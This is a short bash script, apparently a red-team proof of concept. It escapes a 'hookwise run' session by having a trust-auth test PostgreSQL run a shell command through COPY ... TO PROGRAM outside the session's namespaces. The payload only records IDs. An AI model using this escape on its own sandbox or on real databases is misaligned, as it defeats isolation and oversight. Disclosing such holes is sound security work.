#!/bin/bash
# Inside `hookwise run`: the project's test PostgreSQL (/tmp/hookwise-pg, trust auth on its
# unix socket and on 127.0.0.1) runs a shell command for any client: COPY ... TO PROGRAM.
# The command runs as the server's user, outside the session (its mount namespace).
echo "inside: mnt $(readlink /proc/self/ns/mnt) pid-ns $(readlink /proc/self/ns/pid)"
psql -h /tmp/hookwise-pg/run -p 55432 -U postgres -d postgres -Atc \
  "COPY (SELECT 1) TO PROGRAM 'echo \"outside: uid=\$(id -u) mnt=\$(readlink /proc/self/ns/mnt) pid-ns=\$(readlink /proc/self/ns/pid) ppid-cmd=\$(cat /proc/\$PPID/cmdline | tr \"\\\\0\" \" \")\" > /tmp/rt23-pg-escape.txt'"
